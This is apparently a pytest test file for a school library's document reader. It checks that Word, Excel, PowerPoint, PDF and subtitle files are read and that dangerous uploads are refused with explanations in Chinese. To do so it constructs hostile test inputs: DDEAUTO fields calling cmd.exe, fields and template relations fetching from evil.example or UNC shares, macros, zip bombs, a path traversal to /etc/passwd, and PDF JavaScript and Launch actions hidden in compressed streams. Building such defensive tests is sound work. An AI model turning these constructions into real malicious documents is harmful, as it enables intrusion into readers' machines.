"""What the library takes, what it reads, and what it refuses in words a teacher understands."""

import io
import re
import zipfile
import zlib

import pytest
from openpyxl import Workbook
from PIL import Image
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from retrieval import read_office, read_pdf
from retrieval.file_kinds import FileKind, kind_of
from retrieval.office_zip import MOST_UNPACKED
from retrieval.read_apart import read_apart
from retrieval.read_file import FileText, read_file
from school.errors import NotUnderstood
from tests.library_files import (
    LESSON,
    a_docx,
    a_pdf,
    a_pptx,
    an_xlsx,
    part_of,
    with_part,
)

RELS = "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def why(content: bytes, name: str = "课件.docx") -> str:
    """Return why a file is refused."""
    with pytest.raises(NotUnderstood) as refused:
        read_file(content, name=name)
    return refused.value.message


def with_relation(kind: str, target: str) -> bytes:
    """Return a document with one more relation to something outside."""
    office = a_docx()
    more = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    changed = part_of(office, RELS).replace(b"</Relationships>", more.encode())
    return with_part(office, RELS, changed)


def test_a_documents_paragraphs_and_tables_are_read() -> None:
    found = read_file(a_docx(), name="教案.docx")

    assert found.kind is FileKind.DOCX
    assert found.texts[: len(LESSON)] == LESSON
    assert found.texts[-1] == "环节 时间"
    assert found.ending == ".docx"


def test_slides_are_read_with_their_notes() -> None:
    found = read_file(a_pptx("分数除法", notes="先复习倒数"), name="a.pptx")

    assert found == FileText(kind=FileKind.PPTX, texts=("分数除法\n先复习倒数",))


def test_a_table_is_read_by_rows_and_one_that_calculates_is_refused() -> None:
    assert (
        read_file(an_xlsx(("题号", "答案"), (1, "B")), name="a.xlsx").text
        == "Sheet\n题号 答案\n1 B"
    )
    assert "公式" in why(an_xlsx(("=HYPERLINK(1)",)), "a.xlsx")


def test_a_formula_behind_two_million_characters_is_found(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(read_office, "MOST_CHARACTERS", 10)
    workbook = Workbook()
    workbook.active.append(["很长的一段文字，比读的还长"])
    assert len(read_file(saved(workbook), name="a.xlsx").text) <= 10 + len("Sheet\n")
    workbook.create_sheet("二").append(["=1+1"])

    assert "公式" in why(saved(workbook), "a.xlsx")


def test_a_formula_outside_the_size_a_sheet_claims_is_found() -> None:
    sheet, office = "xl/worksheets/sheet1.xml", an_xlsx(("题",), ("答",), ("=1+1",))
    claims = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1"', part_of(office, sheet))

    assert "公式" in why(with_part(office, sheet, claims), "a.xlsx")


def saved(workbook: Workbook) -> bytes:
    kept = io.BytesIO()
    workbook.save(kept)
    return kept.getvalue()


def begins(*runs: str) -> str:
    told = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in runs)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{told}'


@pytest.mark.parametrize(
    ("field", "passes"),
    [
        (begins(" DDEAUTO c:\\\\windows\\\\cmd.exe "), False),
        (begins("DD", "E", " excel a b"), False),
        (begins("IF 1 = 1 ") + begins(" dde excel a"), False),
        ('<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example&quot;"/>', False),
        (begins(' INCLUDEPICTURE "https://evil.example/a.png" '), False),
        (begins(" LINK Excel.Sheet.8 a"), False),
        (begins(' HYPERLINK "https://example.edu.cn/DDE" '), True),
        (begins(" PAGE ") + "<w:r><w:t>DDE</w:t></w:r>", True),
    ],
)
@pytest.mark.parametrize("part", ["word/document.xml", "word/header9.xml"])
def test_a_field_that_fetches_by_itself_is_refused(field: str, part: str, *, passes: bool) -> None:
    office = a_docx()
    body = part_of(office, "word/document.xml")
    changed = body.replace(b"<w:body>", b"<w:body><w:p>" + field.encode() + b"</w:p>")
    assert changed != body
    sent = with_part(office, part, changed)

    if passes:
        assert read_file(sent, name="a.docx").texts
    else:
        assert "去外面取" in why(sent)


def test_a_pdf_is_read_by_pages() -> None:
    assert read_file(a_pdf("one", "two"), name="a.pdf").texts == ("one", "two")


def test_subtitles_lose_their_times() -> None:
    first = "1\n00:00:01,000 --> 00:00:03,000\n<i>同学们好</i>\n\n"
    srt = first + "2\n00:00:03,000 --> 00:00:05,000\n今天讲倒数\n"

    assert read_file(srt.encode("gb18030"), name="a.srt").text == "同学们好\n今天讲倒数"


def test_films_sounds_and_pictures_are_kept_unread() -> None:
    for content, kind in (
        (b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 50, FileKind.MP4),
        (b"ID3\x04" + b"\x00" * 50, FileKind.MP3),
        (b"RIFF\x00\x00\x00\x00WAVEfmt ", FileKind.WAV),
        (b"\x1a\x45\xdf\xa3" + b"\x00" * 50, FileKind.WEBM),
        (a_jpeg(), FileKind.JPEG),
    ):
        assert read_file(content, name="x") == FileText(kind=kind)


def a_jpeg() -> bytes:
    kept = io.BytesIO()
    Image.new("RGB", (8, 8)).save(kept, "JPEG")
    return kept.getvalue()


@pytest.mark.parametrize(
    ("content", "name", "said"),
    [
        (b"<!DOCTYPE html><script>alert(1)</script>", "课件.pdf", "其实是网页"),
        (b"  <svg onload=alert(1)>", "图.jpg", "其实是网页"),
        (b"MZ\x90\x00" + b"\x00" * 99, "课件.pptx", "认不出"),
        (b"", "a.pdf", "空文件"),
        (OLE, "旧课件.ppt", "另存为"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "加密.docx", "密码"),
        (b"PK\x03\x04rest", "a.docx", "认不出"),
        (b"%PDF-1.4 nothing", "a.pdf", "打不开"),
    ],
)
def test_what_is_not_what_it_says_is_refused(content: bytes, name: str, said: str) -> None:
    assert said in why(content, name)


def test_macros_are_refused_whatever_the_file_is_called() -> None:
    macro = with_part(a_docx(), "word/vbaProject.bin", b"x")

    assert "宏" in why(macro, "教案.docx")
    assert "宏" in why(a_docx(), "教案.docm")


@pytest.mark.parametrize("size", [200_000_000, MOST_UNPACKED + 1])
def test_a_bomb_is_refused_before_it_is_unpacked(size: int) -> None:
    assert "解压后大得不正常" in why(with_part(a_docx(), "word/media/a.bmp", b"\x00" * size))


def test_a_bomb_that_lies_about_its_size_is_refused_while_it_is_unpacked() -> None:
    bomb = bytearray(with_part(a_docx(), "word/media/a.bmp", b"\x00" * 5_000_000))
    told = bomb.rfind(b"PK\x01\x02") + 24
    bomb[told : told + 4] = (1000).to_bytes(4, "little")

    assert "没有入库" in why(bytes(bomb))


def test_thousands_of_parts_are_refused() -> None:
    kept = io.BytesIO(a_docx())
    with zipfile.ZipFile(kept, "a") as archive:
        for number in range(3001):
            archive.writestr(f"word/media/{number}.txt", "")

    assert "不正常" in why(kept.getvalue())


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("word/embeddings/oleObject1.bin", OLE, "嵌了别的程序"),
        ("word/media/a.png", OLE, "嵌了别的程序"),
        ("word/media/a.png", b"MZ\x90\x00", "嵌了别的程序"),
        ("word/media/a.zip", b"PK\x03\x04", "压缩包"),
        ("word/media/a.rar", b"Rar!\x1a\x07", "压缩包"),
        ("../../etc/passwd", b"x", "打不开"),
        ("C:\\windows\\a", b"x", "打不开"),
        ("xl/externalLinks/externalLink1.xml", b"<a/>", "去外面取"),
        ("word/a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "打不开"),
        ("word/a.xml", b"<a><b></a>", "打不开"),
    ],
)
def test_dangerous_parts_are_refused(name: str, content: bytes, said: str) -> None:
    assert said in why(with_part(a_docx(), name, content))


def test_a_chart_keeps_the_table_behind_it() -> None:
    behind = an_xlsx(("甲", 1))

    assert read_file(with_part(a_docx(), "word/embeddings/a.xlsx", behind), name="a.docx").texts


def test_what_opens_outside_by_itself_is_refused_and_links_one_follows_are_not() -> None:
    kind = "officeDocument/2006/relationships/{}"
    template = with_relation(kind.format("attachedTemplate"), "https://evil.example/a.dotm")
    picture = with_relation(kind.format("image"), "\\\\evil\\share\\a.png")
    share = with_relation(kind.format("hyperlink"), "file://evil/share")
    link = with_relation(kind.format("hyperlink"), "https://example.edu.cn")

    assert [("去外面取" in why(one)) for one in (template, picture, share)] == [True] * 3
    assert read_file(link, name="a.docx").texts


@pytest.mark.parametrize(
    "act", [b"/JavaScript", b"/J#61vaScript", b"/Launch", b"/EmbeddedFile", b"/RichMedia"]
)
def test_a_pdf_that_acts_by_itself_is_refused(act: bytes) -> None:
    active = a_pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S " + act + b" >>")

    assert "自己运行" in why(active, "a.pdf")


def test_a_script_hidden_in_compressed_objects_is_found() -> None:
    packed = zlib.compress(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>")
    hidden = b"9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n" + packed

    assert "自己运行" in why(a_pdf() + hidden + b"\nendstream endobj", "a.pdf")


SCRIPT = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    ("about", "packed"),
    [
        (b"/Type /ObjStm /Note (1 0 obj) /Filter /FlateDecode", zlib.compress(SCRIPT)),
        (b"/Type /ObjStm /Filter /FlateDecode /Pad (" + b"x" * 3000 + b")", zlib.compress(SCRIPT)),
        (b"/Type 5 0 R /Filter /FlateDecode", zlib.compress(SCRIPT)),
        (b"/Filter /FlateDecode", zlib.compress(b" " * 65_530 + SCRIPT)),
        (b"/Filter /FlateDecode", zlib.compress(b"1 0 << /S 5 0 R /JS 6 0 R >>")),
    ],
)
@pytest.mark.parametrize("line", [b"\n", b"\r\n", b" \n"])
def test_no_stream_hides_a_script(about: bytes, packed: bytes, line: bytes) -> None:
    hidden = b"9 0 obj << " + about + b" >>\nstream" + line + packed + b"\nendstream endobj"

    assert "自己运行" in why(a_pdf() + hidden, "a.pdf")


def test_objects_behind_a_filter_that_nothing_packs_them_in_are_refused() -> None:
    hidden = b"9 0 obj << /Type /Obj#53tm /Filter /LZWDecode >>\nstream\nx\nendstream endobj"

    assert "打不开" in why(a_pdf() + hidden, "a.pdf")


def test_streams_that_unpack_to_more_than_any_pdf_are_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(read_pdf, "MOST_UNPACKED", 1_000_000)
    one = b"9 0 obj << >>\nstream\n" + zlib.compress(b" " * 400_000) + b"\nendstream endobj\n"

    assert read_file(a_pdf() + one, name="a.pdf").texts
    assert "打不开" in why(a_pdf() + one * 3, "a.pdf")


def test_a_script_is_found_as_the_reader_of_the_file_sees_it() -> None:
    """Objects under a predictor look like nothing until they are read as PDF."""
    assert "自己运行" in why(with_predicted_objects(b"/OpenAction << /S /JavaScript >>"), "a.pdf")
    assert read_file(with_predicted_objects(b""), name="a.pdf").kind is FileKind.PDF


def with_predicted_objects(more: bytes) -> bytes:
    """Return a PDF whose catalogue is packed with a PNG predictor, a byte a row."""
    catalogue = b"1 0 << /Type /Catalog /Pages 2 0 R " + more + b" >>"
    rows = zlib.compress(b"".join(b"\x00" + bytes([one]) for one in catalogue))
    about = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>"
    parts = [
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n",
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >> endobj\n",
        b"4 0 obj << /Type /ObjStm /N 1 /First 4 /Length %d %b >>\nstream\n%b\nendstream endobj\n"
        % (len(rows), about, rows),
    ]
    pdf, places = b"%PDF-1.5\n", []
    for part in parts:
        places.append(len(pdf))
        pdf += part
    entries = [(0, 0), (2, 4), *((1, place) for place in places), (1, len(pdf))]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + b"\x00" for kind, place in entries)
    return pdf + (
        b"5 0 obj << /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n%b\n"
        b"endstream endobj\nstartxref\n%d\n%%%%EOF" % (len(table), table, len(pdf))
    )


def test_a_locked_pdf_and_a_book_of_600_pages_are_refused() -> None:
    kept = io.BytesIO()
    locked = Canvas(kept, encrypt=StandardEncryption("secret"))
    locked.drawString(9, 9, "x")
    locked.save()

    assert "密码" in why(kept.getvalue(), "a.pdf")
    assert "500 页" in why(a_pdf(*["x"] * 501), "a.pdf")


def test_a_file_above_fifty_megabytes_is_refused_and_a_film_is_not() -> None:
    with pytest.raises(NotUnderstood, match="50 MB"):
        kind_of(b"%PDF-" + b"x" * 50_000_000, name="a.pdf")
    assert kind_of(b"\x00\x00\x00\x18ftypmp42" + b"x" * 60_000_000, name="a") is FileKind.MP4


def test_hidden_characters_are_removed_and_words_stay() -> None:
    text = "分\u200b数\u202e除\u2066法\ufeff\x07 第\u3000一课\ue000"

    assert read_file(text.encode(), name="a.txt").text == "分数除法 第 一课"


def test_reading_happens_elsewhere_and_a_reader_that_does_not_end_is_stopped() -> None:
    assert read_apart(a_docx(), name="../../教案.docx").texts[: len(LESSON)] == LESSON
    with pytest.raises(NotUnderstood, match="其实是网页"):
        read_apart(b"<html>", name="a.pdf")
    with pytest.raises(NotUnderstood, match="太复杂"):
        read_apart(a_docx(), name="a.docx", most_s=0.01)
